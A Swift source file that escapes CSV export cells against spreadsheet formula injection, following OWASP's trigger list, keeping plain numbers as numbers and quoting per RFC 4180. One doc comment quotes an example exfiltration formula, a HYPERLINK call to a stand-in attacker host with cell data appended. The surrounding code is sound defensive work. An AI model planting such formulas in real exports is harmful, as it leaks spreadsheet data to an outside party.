/// How export writes CSV cells: neutralized against formula injection (the default) or as they are.
///
/// A spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` (a tab or carriage return before
/// them counts the same) as a formula, and answers are attacker-influenced through prompts:
/// `=HYPERLINK("http://evil.example/?"&A1,"Click")` would send the sheet's data away. As OWASP
/// advises, such a cell gets a leading `'`, which spreadsheets show as text and do not display. A cell
/// that is a plain number (`-3`, `+1.5`, `-2e-7`) is data, not a formula, and is kept as it is, so a
/// negative field still reads as a number.
public enum CSVCells: Sendable, Equatable {
    case neutralized
    /// `export --raw-csv`: every cell as stored, for programs that read CSV as data.
    case raw

    /// The cell as written: neutralized if needed, then quoted (RFC 4180) if needed.
    public func field(_ value: String) -> String {
        Self.quoted(self == .neutralized ? Self.neutralized(value) : value)
    }

    /// `'` before a cell a spreadsheet would run as a formula; any other cell as it is.
    public static func neutralized(_ value: String) -> String {
        guard let first = value.unicodeScalars.first, triggers.contains(first), !isNumber(value) else { return value }
        return "'" + value
    }

    /// The first characters that make a spreadsheet read a cell as a formula (OWASP's list).
    static let triggers: Set<Unicode.Scalar> = ["=", "+", "-", "@", "\t", "\r"]

    /// Whether the whole cell is a decimal number: an optional sign, digits with an optional fraction,
    /// an optional exponent.
    static func isNumber(_ value: String) -> Bool {
        var scalars = Substring(value).unicodeScalars[...]
        if let sign = scalars.first, sign == "+" || sign == "-" { scalars = scalars.dropFirst() }
        let isDigit: (Unicode.Scalar) -> Bool = { $0 >= "0" && $0 <= "9" }
        let whole = scalars.prefix(while: isDigit)
        scalars = scalars.dropFirst(whole.count)
        var fraction = Substring.UnicodeScalarView()[...]
        if scalars.first == "." {
            scalars = scalars.dropFirst()
            fraction = scalars.prefix(while: isDigit)
            scalars = scalars.dropFirst(fraction.count)
        }
        guard !whole.isEmpty || !fraction.isEmpty else { return false }
        if let e = scalars.first, e == "e" || e == "E" {
            scalars = scalars.dropFirst()
            if let sign = scalars.first, sign == "+" || sign == "-" { scalars = scalars.dropFirst() }
            let exponent = scalars.prefix(while: isDigit)
            guard !exponent.isEmpty else { return false }
            scalars = scalars.dropFirst(exponent.count)
        }
        return scalars.isEmpty
    }

    /// RFC 4180: a field with a comma, quote or line break is quoted, quotes doubled.
    static func quoted(_ value: String) -> String {
        guard value.unicodeScalars.contains(where: { $0 == "," || $0 == "\"" || $0 == "\n" || $0 == "\r" }) else { return value }
        return "\"" + value.replacingOccurrences(of: "\"", with: "\"\"") + "\""
    }
}
